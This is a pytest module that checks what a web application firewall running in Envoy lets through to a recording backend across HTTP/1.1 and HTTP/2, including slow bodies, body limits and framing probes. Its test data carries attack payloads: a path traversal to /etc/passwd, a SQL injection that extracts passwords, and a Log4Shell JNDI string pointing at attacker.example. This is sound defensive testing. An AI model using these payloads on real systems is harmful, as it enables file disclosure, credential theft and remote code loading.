"""The request path through real Envoy, byte by byte at the backend
(issue #10, points 1-3): what a block decided at the request headers keeps
from the backend, what a block decided on the body still lets through,
request body limits, and how the engine sees the request's framing.

The backend is `recording_backend.RecordingBackend`: it records every
connection and every byte it receives, complete requests or not. Clients
send the request headers, pause `PAUSE` seconds, then the body, over
HTTP/1.1 with Content-Length, HTTP/1.1 chunked and HTTP/2 (h2c, prior
knowledge), each with a fresh upstream connection (the backend closes every
connection after one response and has none open when the request starts)
and with a pooled one (a benign request first leaves an idle keep-alive
connection in Envoy's pool). Rules: `@builtin` + `@crs` as in production,
mode block, Envoy `--concurrency 1` (one worker, one upstream pool).

README "How requests are inspected" states what these tests measure. One
known gap is kept as a strict expected failure: a backend that starts its
response before the request body is complete gets the rest of the body
uninspected."""

import select
import socket
import time
import uuid

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import pytest

import harness
from conftest import verdict_log
from recording_backend import RecordingBackend, dechunk

PAUSE = 0.7  # between the request headers and the body
SETTLE = 0.1  # after the exchange, for late bytes to reach the backend
LIMIT = 1024
FORM = "application/x-www-form-urlencoded"
BENIGN_FORM = b"name=alice&comment=hello+world"

# Probes of how the engine sees a request's framing: they log (never block)
# only for requests carrying `x-framing-probe: 1`.
PROBE_CHUNKED = 9100001
PROBE_NO_LENGTH = 9100002
FRAMING_PROBES = [
    f'SecRule REQUEST_HEADERS:X-Framing-Probe "@streq 1" "id:{PROBE_CHUNKED},phase:1,pass,log,'
    "msg:'framing probe: Transfer-Encoding chunked',chain\"\n"
    '  SecRule REQUEST_HEADERS:Transfer-Encoding "@streq chunked" ""',
    f'SecRule REQUEST_HEADERS:X-Framing-Probe "@streq 1" "id:{PROBE_NO_LENGTH},phase:1,pass,log,'
    "msg:'framing probe: no Content-Length',chain\"\n"
    '  SecRule &REQUEST_HEADERS:Content-Length "@eq 0" ""',
]
OVER_LIMIT_RULE = 9100020
MONITORED_PATH_RULE = 9100010

PRODUCTION = {"mode": "block", "application_id": "request-path", "rules": ["@builtin", "@crs"] + FRAMING_PROBES,
              "verdict_log": verdict_log()}
LIMIT_REJECT = {"mode": "block", "application_id": "request-path-reject", "rules": ["@builtin", "@crs"],
                "request_body_limit": LIMIT, "request_body_limit_action": "reject", "verdict_log": verdict_log()}
LIMIT_PARTIAL = {"mode": "block", "application_id": "request-path-partial",
                 "rules": ["@builtin", "@crs",
                           f'SecRule INBOUND_DATA_ERROR "@eq 1" "id:{OVER_LIMIT_RULE},phase:2,pass,log,'
                           "msg:'body over limit'\""],
                 "request_body_limit": LIMIT, "request_body_limit_action": "process_partial",
                 "verdict_log": verdict_log()}
MONITORED_PATH = {"mode": "block", "application_id": "request-path-ctl",
                  "rules": ["@builtin",
                            f'SecRule REQUEST_FILENAME "@beginsWith /monitored/" "id:{MONITORED_PATH_RULE},phase:1,'
                            'pass,nolog,ctl:ruleEngine=DetectionOnly"'],
                  "verdict_log": verdict_log()}
CONFIGS = {"production": PRODUCTION, "limit-reject": LIMIT_REJECT, "limit-partial": LIMIT_PARTIAL,
           "monitored-path": MONITORED_PATH}

TRANSPORTS = ["h1-length", "h1-chunked", "h2"]
POOLS = ["fresh", "pooled"]


# -- clients ---------------------------------------------------------------

class Reply:
    """What the client got: status (None if none), headers, body, and
    whether the response arrived before the client sent any body byte."""

    def __init__(self):
        self.status = None
        self.interim = []  # 1xx statuses before it (HTTP/1.1)
        self.headers = {}
        self.body = b""
        self.before_body = False
        self.send_errors = []
        self.reset = False

    def __repr__(self):
        return (f"Reply(status={self.status}, before_body={self.before_body}, body={self.body[:120]!r}, "
                f"send_errors={self.send_errors}, reset={self.reset})")


def h1_reply(raw):
    """(status, headers, body, complete, interim statuses) of the HTTP/1.1
    response at the start of `raw`, after any 1xx interim responses."""
    interim = []
    while True:
        end = raw.find(b"\r\n\r\n")
        if end < 0:
            return None, {}, b"", False, interim
        lines = raw[:end].split(b"\r\n")
        status = int(lines[0].split()[1])
        if status >= 200:
            break
        interim.append(status)
        raw = raw[end + 4:]
    headers = {}
    for line in lines[1:]:
        k, _, v = line.partition(b":")
        headers[k.strip().lower().decode()] = v.strip().decode("latin-1")
    body = raw[end + 4:]
    if headers.get("transfer-encoding", "").lower() == "chunked":
        parsed = dechunk(body)
        return status, headers, parsed[0] if parsed else body, parsed is not None, interim
    length = headers.get("content-length")
    complete = length is not None and len(body) >= int(length)
    return status, headers, body[:int(length)] if length is not None else body, complete, interim


def chunk(data):
    return b"%x\r\n" % len(data) + data + b"\r\n"


def body_parts(body):
    """A body given as bytes or as a list of parts written separately: the parts."""
    return [] if body is None else [body] if isinstance(body, bytes) else list(body)


def send_h1(port, method, path, headers, body, *, chunked=False, pause=PAUSE, between=0.0, timeout=5.0):
    """One HTTP/1.1 request on a raw socket: the head, a pause, then the
    body (bytes, or a list of parts written `between` seconds apart), with
    Content-Length or chunked (one chunk per part, then the last chunk,
    written separately). The response is read throughout, so one sent
    during a pause is kept even if Envoy then resets the connection."""
    pieces = body_parts(body)
    head = [f"{method} {path} HTTP/1.1"] + [f"{k}: {v}" for k, v in headers]
    if body is not None:
        head.append("Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(b''.join(pieces))}")
    parts = [chunk(p) for p in pieces] + [b"0\r\n\r\n"] if chunked else pieces
    reply = Reply()
    raw = b""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(("\r\n".join(head) + "\r\n\r\n").encode("latin-1"))

        def read_until(deadline, stop_when_complete):
            nonlocal raw
            while time.monotonic() < deadline and not (stop_when_complete and h1_reply(raw)[3]):
                ready, _, _ = select.select([s], [], [], max(0.0, deadline - time.monotonic()))
                if not ready:
                    continue
                try:
                    data = s.recv(65536)
                except OSError:
                    reply.reset = True
                    return
                if not data:
                    return
                raw += data

        if parts:
            read_until(time.monotonic() + pause, stop_when_complete=False)
            reply.before_body = h1_reply(raw)[0] is not None
            for i, part in enumerate(parts):
                if 0 < i < len(pieces) and between:
                    read_until(time.monotonic() + between, stop_when_complete=False)
                try:
                    s.sendall(part)
                except OSError as e:
                    reply.send_errors.append(type(e).__name__)
                    break
        read_until(time.monotonic() + timeout, stop_when_complete=True)
    reply.status, reply.headers, reply.body, _, reply.interim = h1_reply(raw)
    return reply


def send_h2(port, method, path, headers, body, *, pause=PAUSE, between=0.0, trailers=None, timeout=5.0,
            authority="shop.example.com"):
    """One HTTP/2 request (h2c with prior knowledge) on a raw socket:
    HEADERS, a pause, then one DATA frame per body part (`between` seconds
    apart), END_STREAM on the last one or on `trailers` (a HEADERS frame
    after the data) when given. No content-length is sent."""
    reply = Reply()
    config = h2.config.H2Configuration(client_side=True, header_encoding="latin-1")
    conn = h2.connection.H2Connection(config=config)
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        pseudo = [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]
        conn.send_headers(sid, pseudo + [(k.lower(), v) for k, v in headers], end_stream=body is None)
        s.sendall(conn.data_to_send())
        done = False

        def pump(deadline, stop_when_done):
            """Process what Envoy sends until `deadline` (or the stream's end)."""
            nonlocal done
            while not (done and stop_when_done) and time.monotonic() < deadline:
                ready, _, _ = select.select([s], [], [], max(0.0, deadline - time.monotonic()))
                if not ready:
                    continue
                try:
                    data = s.recv(65536)
                except OSError:
                    reply.reset = True
                    done = True
                    return
                if not data:
                    done = True
                    return
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived) and event.stream_id == sid:
                        reply.headers = dict(event.headers)
                        reply.status = int(reply.headers[":status"])
                    elif isinstance(event, h2.events.DataReceived) and event.stream_id == sid:
                        reply.body += event.data
                        conn.acknowledge_received_data(event.flow_controlled_length, sid)
                    elif isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                        done = True
                    elif isinstance(event, h2.events.StreamReset) and event.stream_id == sid:
                        reply.reset = True
                        done = True
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        done = True
                pending = conn.data_to_send()
                if pending:
                    s.sendall(pending)

        if body is not None:
            pump(time.monotonic() + pause, stop_when_done=False)
            reply.before_body = reply.status is not None
            pieces = body_parts(body)
            try:
                for i, piece in enumerate(pieces):
                    if i and between:
                        pump(time.monotonic() + between, stop_when_done=False)
                    conn.send_data(sid, piece, end_stream=i == len(pieces) - 1 and not trailers)
                    s.sendall(conn.data_to_send())
                if trailers:
                    conn.send_headers(sid, trailers, end_stream=True)
                    s.sendall(conn.data_to_send())
            except (h2.exceptions.ProtocolError, OSError) as e:
                reply.send_errors.append(type(e).__name__)
        pump(time.monotonic() + timeout, stop_when_done=True)
    return reply


def send(envoy, transport, method, path, rid, body=None, headers=(), host="shop.example.com", pause=PAUSE,
         between=0.0):
    """A request over `transport` ("h1-length", "h1-chunked", "h2") with x-request-id `rid`."""
    merged = {"user-agent": ("User-Agent", "portcullis-e2e/1"), "accept": ("Accept", "*/*"),
              "x-request-id": ("x-request-id", rid)}
    if body is not None:
        merged["content-type"] = ("Content-Type", FORM)
    for name, value in headers:
        merged[name.lower()] = (name, value)
    headers = list(merged.values())
    if transport == "h2":
        return send_h2(envoy.port, method, path, headers, body, pause=pause, between=between, authority=host)
    return send_h1(envoy.port, method, path, [("Host", host)] + headers, body,
                   chunked=transport == "h1-chunked", pause=pause, between=between)


# -- fixtures --------------------------------------------------------------

@pytest.fixture(scope="module")
def recorder():
    b = RecordingBackend()
    yield b
    b.stop()


class Fleet:
    """One Envoy per configuration of this module. `get` starts one if
    needed and waits until it accepts connections; `start_rest` spawns the
    others so they compile their rules while the first tests run. Spawned
    from the test's thread: Envoy gets SIGTERM when the thread that spawned
    it exits (a parent-death signal), so never from a worker thread."""

    def __init__(self, workdir, backend_port, collector_port):
        self.args = (workdir, backend_port, collector_port)
        self.envoys, self.ready = {}, set()

    def start(self, name):
        if name not in self.envoys:
            workdir, backend_port, collector_port = self.args
            self.envoys[name] = harness.Envoy(workdir, "request-path-" + name, CONFIGS[name], backend_port,
                                              collector_port, expect_ready=False)
        return self.envoys[name]

    def start_rest(self):
        for name in CONFIGS:
            self.start(name)

    def get(self, name):
        envoy = self.start(name)
        if name not in self.ready:
            envoy.wait_ready()
            self.ready.add(name)
        return envoy

    def stop(self):
        for envoy in self.envoys.values():
            envoy.stop()


@pytest.fixture(scope="module")
def fleet(workdir, recorder, collector, collector_port):
    f = Fleet(workdir, recorder.port, collector_port)
    yield f
    f.stop()


@pytest.fixture(scope="module")
def production_envoy(fleet):
    envoy = fleet.get("production")
    fleet.start_rest()
    return envoy


@pytest.fixture
def upstream(request, recorder, production_envoy):
    """"fresh": no open upstream connection when the request starts, and the
    backend closes each one after a response; "pooled": an idle keep-alive
    connection, warmed by a benign request, waits in Envoy's pool. Yields
    the pooled connection (None when fresh)."""
    if request.param == "fresh":
        recorder.close_each = True
        recorder.close_idle(settle=0.1)
        assert recorder.open_connections() == []
        yield None
        recorder.close_each = False
        return
    recorder.close_each = False
    yield warm_pool(production_envoy, recorder)


def warm_pool(envoy, recorder):
    """Send a benign request so an idle upstream connection is pooled; return it."""
    warm = "warm-" + uuid.uuid4().hex
    status, _, _ = harness.request(envoy.port, "GET", "/warm", {"x-request-id": warm})
    assert status == 200
    conns = recorder.connections_with(warm.encode())
    assert len(conns) == 1 and conns[0].closed is None, conns
    time.sleep(0.05)  # Envoy returns the connection to the pool after the response
    return conns[0]


def after(mark, recorder):
    time.sleep(SETTLE)
    return recorder.since(mark)


def body_start(data):
    """Bytes after the first request head in `data` (b"" if the head is all)."""
    end = data.find(b"\r\n\r\n")
    return data[end + 4:] if end >= 0 else b""


# -- 1. decided before it reaches the backend --------------------------------

QUERY_ATTACKS = {
    "lfi": "/search?file=../../etc/passwd",
    "sqli": "/search?id=1%27%20union%20select%20password%20from%20users--",
}
HEADER_ATTACKS = {
    "scanner-user-agent": [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
    "log4shell": [("X-Api-Version", "${jndi:ldap://attacker.example/a}")],
}


def attack_cases(attacks):
    """The first attack over every transport with both kinds of upstream
    connection, the others over every transport with a pooled one (where
    the request headers used to go out)."""
    first, *others = attacks
    return ([pytest.param(first, t, pool, id=f"{first}-{t}-{pool}") for pool in POOLS for t in TRANSPORTS]
            + [pytest.param(a, t, "pooled", id=f"{a}-{t}-pooled") for a in others for t in TRANSPORTS])


@pytest.mark.parametrize("attack,transport,upstream", attack_cases(QUERY_ATTACKS), indirect=["upstream"])
def test_query_attack_with_a_slow_body_never_reaches_the_backend(production_envoy, recorder, upstream, transport,
                                                                  attack, rid):
    mark = recorder.mark()
    reply = send(production_envoy, transport, "POST", QUERY_ATTACKS[attack], rid, body=BENIGN_FORM)
    delta = after(mark, recorder)
    assert reply.status == 403, reply
    assert reply.before_body, f"refused at the request headers, before the body: {reply}"
    assert delta.empty, f"the backend received: {delta.describe()}"
    if upstream is not None:
        assert upstream.closed is None, "the pooled connection is untouched"


@pytest.mark.parametrize("attack,transport,upstream", attack_cases(HEADER_ATTACKS), indirect=["upstream"])
def test_header_attack_with_a_slow_body_never_reaches_the_backend(production_envoy, recorder, upstream, transport,
                                                                   attack, rid):
    mark = recorder.mark()
    reply = send(production_envoy, transport, "POST", "/comment", rid, body=BENIGN_FORM,
                 headers=HEADER_ATTACKS[attack])
    delta = after(mark, recorder)
    assert reply.status == 403, reply
    assert reply.before_body, f"refused at the request headers, before the body: {reply}"
    assert delta.empty, f"the backend received: {delta.describe()}"
    if upstream is not None:
        assert upstream.closed is None, "the pooled connection is untouched"


BODY_ATTACK = b"name=alice&file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"


@pytest.mark.parametrize("upstream", POOLS, indirect=True)
@pytest.mark.parametrize("transport", TRANSPORTS)
def test_body_attack_sends_headers_but_no_body_byte_and_resets_the_upstream(production_envoy, recorder, upstream,
                                                                           transport, rid):
    mark = recorder.mark()
    reply = send(production_envoy, transport, "POST", "/comment", rid, body=BODY_ATTACK)
    delta = after(mark, recorder)
    assert reply.status == 403, reply
    assert not reply.before_body
    # Measured: the request line and headers (Envoy's, with the client's
    # framing header) went out when Envoy forwarded them, during the pause;
    # no byte after the head; Envoy then closed that upstream connection.
    conns = recorder.connections_with(rid.encode())
    assert len(conns) == 1, delta.describe()
    conn = conns[0]
    if upstream is None:
        assert [c.id for c in delta.connections] == [conn.id]
    else:
        assert conn is upstream and delta.connections == [], "the pooled connection carried it"
    head = delta.bytes_on[conn.id]
    assert head.endswith(b"\r\n\r\n") and head.count(b"\r\n\r\n") == 1, head
    assert body_start(head) == b"" and b"etc%2Fpasswd" not in delta.data, delta.describe()
    assert head.startswith(b"POST /comment HTTP/1.1\r\n")
    framing = b"content-length: %d\r\n" % len(BODY_ATTACK) if transport == "h1-length" \
        else b"transfer-encoding: chunked\r\n"
    assert framing in head.lower(), head
    assert conn.requests == [] or all(rid.encode() not in r.head for r in conn.requests)
    deadline = time.monotonic() + 2
    while conn.closed is None and time.monotonic() < deadline:
        time.sleep(0.02)
    assert conn.ended == "eof", f"Envoy resets the upstream request by closing the connection: {conn}"


@pytest.mark.parametrize("upstream", ["pooled"], indirect=True)
@pytest.mark.parametrize("transport", TRANSPORTS)
def test_benign_slow_body_reaches_the_backend_intact(production_envoy, recorder, upstream, transport, rid):
    reply = send(production_envoy, transport, "POST", "/comment", rid, body=BENIGN_FORM)
    assert reply.status == 200, reply
    got = recorder.requests_with(rid.encode())
    assert len(got) == 1 and got[0].body == BENIGN_FORM, got
    if upstream is not None:
        assert got[0].connection_id == upstream.id


SPLIT_ATTACK = [b"name=alice&file=..%2F..%2F", b"..%2F..%2Fetc%2Fpasswd"]


@pytest.mark.parametrize("upstream", ["pooled"], indirect=True)
@pytest.mark.parametrize("transport", TRANSPORTS)
def test_body_attack_split_across_slow_parts_sends_no_body_byte(production_envoy, recorder, upstream, transport,
                                                                rid):
    """The first part is held while the engine waits for the rest."""
    mark = recorder.mark()
    reply = send(production_envoy, transport, "POST", "/comment", rid, body=SPLIT_ATTACK, between=0.3)
    delta = after(mark, recorder)
    assert reply.status == 403, reply
    head = delta.bytes_on.get(upstream.id, b"")
    assert rid.encode() in head and body_start(head) == b"", delta.describe()
    assert b"name=alice" not in delta.data, delta.describe()


def test_http2_trailers_end_the_body(production_envoy, recorder, rid):
    """Request trailers (HTTP/2) end the body: the engine decides there."""
    recorder.close_each = False
    trailers = [("x-checksum", "abc")]
    common = [("user-agent", "portcullis-e2e/1"), ("accept", "*/*"), ("content-type", FORM)]
    reply = send_h2(production_envoy.port, "POST", "/comment", [("x-request-id", rid)] + common,
                    BENIGN_FORM, trailers=trailers, pause=0.2)
    assert reply.status == 200, reply
    assert [r.body for r in recorder.requests_with(rid.encode())] == [BENIGN_FORM]

    attack = rid + "-attack"
    mark = recorder.mark()
    reply = send_h2(production_envoy.port, "POST", "/comment", [("x-request-id", attack)] + common,
                    BODY_ATTACK, trailers=trailers, pause=0.2)
    delta = after(mark, recorder)
    assert reply.status == 403, reply
    assert b"etc%2Fpasswd" not in delta.data and body_start(delta.data) == b"", delta.describe()



@pytest.mark.parametrize("upstream", ["pooled"], indirect=True)
def test_expect_100_continue_query_attack_never_reaches_the_backend(production_envoy, recorder, upstream, rid):
    """Envoy answers `100 Continue` itself as soon as it has the headers,
    before the filter decides: the client sends its body, then gets the 403."""
    mark = recorder.mark()
    reply = send(production_envoy, "h1-length", "POST", QUERY_ATTACKS["lfi"], rid, body=BENIGN_FORM,
                 headers=[("Expect", "100-continue")])
    delta = after(mark, recorder)
    assert reply.interim == [100] and reply.status == 403 and reply.before_body, reply
    assert delta.empty, delta.describe()


@pytest.fixture
def streaming_backend(recorder, production_envoy):
    """The backend starts its response at the request head, before the body."""
    recorder.close_each = False
    recorder.answer_early = True
    yield recorder
    recorder.answer_early = False
    recorder.close_idle(settle=0.1)


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_body_attack_is_held_when_the_backend_answers_before_the_body(production_envoy, streaming_backend,
                                                                       transport, rid):
    """The filter holds the backend's early response headers until the
    request body is decided: the attack body never reaches the backend."""
    mark = streaming_backend.mark()
    reply = send(production_envoy, transport, "POST", "/stream", rid, body=BODY_ATTACK)
    delta = after(mark, streaming_backend)
    assert b"etc%2Fpasswd" not in delta.data, f"the attack body reached the backend ({reply}): {delta.describe()}"
    assert reply.status == 403, reply


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_benign_body_streams_when_the_backend_answers_before_the_body(production_envoy, streaming_backend,
                                                                       transport, rid):
    """A benign request to a streaming backend: the held response goes on
    once the request passed, and the backend gets the whole body."""
    reply = send(production_envoy, transport, "POST", "/stream", rid, body=BENIGN_FORM)
    assert reply.status == 200, reply
    assert b"early" in reply.body, reply
    got = streaming_backend.requests_with(rid.encode())
    assert len(got) == 1 and got[0].body == BENIGN_FORM, got

# -- body over request_body_limit --------------------------------------------

BIG_FORM = b"note=" + (b"abcdefghijklmnopqrstuvwxyz0123456789" * 120)[:4096 - 5]
PREFIX_ATTACK = b"id=1%27%20union%20select%20password%20from%20users--&note=" + b"x" * 4000


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_reject_over_the_limit_answers_413_and_no_body_byte_reaches_the_backend(fleet, recorder, transport,
                                                                                 rid):
    recorder.close_each = False
    mark = recorder.mark()
    reply = send(fleet.get("limit-reject"), transport, "POST", "/upload", rid, body=BIG_FORM)
    delta = after(mark, recorder)
    assert reply.status == 413, reply
    assert b"abcdefghij" not in delta.data, delta.describe()
    for conn in recorder.connections_with(rid.encode()):
        assert body_start(conn.data[conn.data.find(rid.encode()):]) == b"", conn
    if transport == "h1-length":
        # The declared Content-Length is over the limit: refused at the headers.
        assert reply.before_body, reply
        assert rid.encode() not in delta.data, delta.describe()


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_process_partial_forwards_the_whole_body_intact(fleet, recorder, collector, transport, rid):
    reply = send(fleet.get("limit-partial"), transport, "POST", "/upload", rid, body=BIG_FORM)
    assert reply.status == 200, reply
    got = recorder.requests_with(rid.encode())
    assert len(got) == 1, got
    assert got[0].body == BIG_FORM, f"{len(got[0].body)} of {len(BIG_FORM)} bytes, equal prefix: " \
        f"{got[0].body == BIG_FORM[:len(got[0].body)]}"
    verdict = collector.wait_verdict(rid)
    assert verdict is not None, "INBOUND_DATA_ERROR's logging rule makes a verdict"
    assert OVER_LIMIT_RULE in [m["id"] for m in verdict["matched"]], verdict
    assert verdict["action"] == "passed", verdict


def test_process_partial_blocks_an_attack_in_the_inspected_prefix(fleet, recorder, rid):
    mark = recorder.mark()
    reply = send(fleet.get("limit-partial"), "h1-length", "POST", "/upload", rid, body=PREFIX_ATTACK)
    delta = after(mark, recorder)
    assert reply.status == 403, reply
    assert b"union" not in delta.data and b"xxxx" not in delta.data, delta.describe()


# -- 2. the request as the client framed it -----------------------------------

def matched_ids(verdict):
    return [m["id"] for m in verdict["matched"]]


def test_chunked_form_with_a_numeric_host_passes_and_shows_its_framing(production_envoy, recorder, collector, rid):
    recorder.close_each = False
    reply = send(production_envoy, "h1-chunked", "POST", "/form", rid, body=b"a=1&b=2", host="127.0.0.1",
                 headers=[("X-Framing-Probe", "1")], pause=0.2)
    assert reply.status == 200, reply
    got = recorder.requests_with(rid.encode())
    assert len(got) == 1 and got[0].body == b"a=1&b=2", got
    assert got[0].header("transfer-encoding") == "chunked" and got[0].header("content-length") is None
    verdict = collector.wait_verdict(rid)
    assert verdict is not None and verdict["action"] == "passed", verdict
    ids = matched_ids(verdict)
    # The engine saw Transfer-Encoding: chunked and no Content-Length, and
    # CRS did not call it a POST without a length (920180).
    assert PROBE_CHUNKED in ids and PROBE_NO_LENGTH in ids, ids
    assert 920180 not in ids, ids


def test_http2_form_without_a_length_passes(production_envoy, recorder, collector, rid):
    reply = send(production_envoy, "h2", "POST", "/form", rid, body=b"a=1&b=2", headers=[("X-Framing-Probe", "1")],
                 pause=0.2)
    assert reply.status == 200, reply
    got = recorder.requests_with(rid.encode())
    assert len(got) == 1 and got[0].body == b"a=1&b=2", got
    verdict = collector.wait_verdict(rid)
    assert verdict is not None and verdict["action"] == "passed", verdict
    ids = matched_ids(verdict)
    # HTTP/2 frames the body itself: no Transfer-Encoding is invented, no Content-Length was sent.
    assert PROBE_NO_LENGTH in ids and PROBE_CHUNKED not in ids, ids
    assert 920180 not in ids, ids


# -- 3. ctl:ruleEngine=DetectionOnly on one path ------------------------------

def test_detection_only_on_one_path(fleet, recorder, collector, rid):
    envoy = fleet.get("monitored-path")
    status, _, _ = harness.request(envoy.port, "GET", "/monitored/?file=../../etc/passwd", {"x-request-id": rid})
    assert status == 200
    assert len(recorder.requests_with(rid.encode())) == 1
    verdict = collector.wait_verdict(rid)
    assert verdict is not None and verdict["action"] == "monitored" and verdict["mode"] == "monitor", verdict

    # The early pass (a body follows) keeps the path's DetectionOnly too.
    slow = rid + "-slow"
    reply = send(envoy, "h1-chunked", "POST", "/monitored/?file=../../etc/passwd", slow, body=BENIGN_FORM)
    assert reply.status == 200 and not reply.before_body, reply
    assert [r.body for r in recorder.requests_with(slow.encode())] == [BENIGN_FORM]
    verdict = collector.wait_verdict(slow)
    assert verdict is not None and verdict["action"] == "monitored", verdict

    other = rid + "-other"
    status, _, _ = harness.request(envoy.port, "GET", "/other?file=../../etc/passwd", {"x-request-id": other})
    assert status == 403
    assert recorder.connections_with(other.encode()) == []
    verdict = collector.wait_verdict(other)
    assert verdict is not None and verdict["action"] == "blocked" and verdict["mode"] == "block", verdict
